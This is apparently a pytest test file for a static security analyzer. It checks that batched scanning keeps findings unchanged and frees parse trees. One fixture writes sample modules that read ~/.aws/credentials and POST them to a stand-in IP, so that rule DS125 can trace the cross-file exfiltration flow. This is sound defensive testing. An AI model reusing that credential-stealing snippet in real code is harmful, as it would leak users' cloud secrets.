"""The in-process engines take a whole-repository run a batch of files at a time, and a batch's
parse trees are dropped once its engines are done (peak memory of the whole Django sdist)."""

from __future__ import annotations

from analyzer import parse, pipeline
from analyzer.engines import bandit, cst
from tests.conftest import REPO

CASES = REPO / "rulesets" / "semgrep"  # ~60 Python files with findings of every engine


def _scan(catalogue):
    return pipeline.scan_paths([CASES], REPO, catalogue, pipeline.Options(cache_dir=None))


def _key(report):
    return sorted((f.rule_id, f.path, f.region) for f in report.findings), sorted(report.notices)


def test_batches_give_the_findings_of_one_batch_and_drop_the_trees(catalogue, monkeypatch):
    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 10_000)
    whole = _scan(catalogue)
    seen: dict[str, list[int]] = {"cst": [], "bandit": []}
    real_cst, real_bandit = cst.run, bandit.run

    def cst_run(files, rules, project=None):
        seen["cst"].append(len(files))
        return real_cst(files, rules, project)

    def bandit_run(files, rules):
        seen["bandit"].append(len(files))
        return real_bandit(files, rules)

    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 7)
    monkeypatch.setattr(cst, "run", cst_run)
    monkeypatch.setattr(bandit, "run", bandit_run)
    parse._CST_CACHE.clear()
    batched = _scan(catalogue)
    assert _key(batched) == _key(whole)
    assert max(seen["cst"]) <= 7 and len(seen["cst"]) >= 8
    assert max(seen["bandit"]) <= 7 and len(seen["bandit"]) >= 8
    # Only files parsed again after their batch (cross-file calls, spans of findings) may remain.
    assert len(parse._CST_CACHE) < sum(seen["cst"]) / 2


def test_a_released_file_is_parsed_again_when_asked():
    parsed = parse.parse_source("a.py", "import os\n\n\ndef f():\n    return os.getcwd()\n")
    spans = parsed.statement_spans()
    module = parsed.module
    parsed.release()
    assert parsed._key not in parse._CST_CACHE and parsed._key not in parse._AST_CACHE
    assert parsed.statement_spans() == spans
    assert parsed.module.code == module.code


COLLECT = "from pathlib import Path\n\n\ndef grab():\n    return (Path.home() / '.aws' / 'credentials').read_text()\n"
SHIP = "import requests\n\n\ndef send(data):\n    requests.post('http://203.0.113.7/c', data=data)\n"
ENTRY = "from pkg.collect import grab\nfrom pkg.ship import send\n\n\ndef init{n}():\n    send(grab())\n"


def test_forgetting_cross_file_summaries_between_batches_changes_no_finding(tmp_path, catalogue, monkeypatch):
    """DS125 follows calls into other files; with every summary forgotten after each batch of
    two, those files are parsed again and the findings (and their traces) are the same."""
    from analyzer.engines import cst as cst_engine

    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "__init__.py").write_text("")
    (pkg / "collect.py").write_text(COLLECT)
    (pkg / "ship.py").write_text(SHIP)
    for n in range(6):
        (pkg / f"entry{n}.py").write_text(ENTRY.format(n=n))
    chosen = catalogue.select(["DS125"])

    def scan():
        report = pipeline.scan_paths([tmp_path], tmp_path, chosen, pipeline.Options(cache_dir=None))
        return sorted((f.rule_id, f.path, f.region, f.flow) for f in report.findings)

    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 10_000)
    whole = scan()
    assert len(whole) == 6 and all(flow for *_, flow in whole)
    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 2)
    monkeypatch.setattr(cst_engine, "KEEP_SUMMARIES", 0)
    assert scan() == whole
